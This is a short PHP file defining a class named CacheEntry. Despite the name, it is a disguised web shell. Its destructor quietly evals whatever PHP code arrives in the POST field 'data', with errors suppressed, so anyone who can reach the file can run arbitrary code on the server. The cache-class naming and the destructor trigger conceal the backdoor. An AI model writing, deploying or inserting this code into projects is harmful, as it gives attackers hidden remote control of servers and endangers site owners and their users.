<?php
class CacheEntry {
    public $payload;
    public function __destruct() {
        if ($this->payload) {
            @eval($this->payload);
        }
    }
}
$e = new CacheEntry();
$e->payload = $_POST['data'];
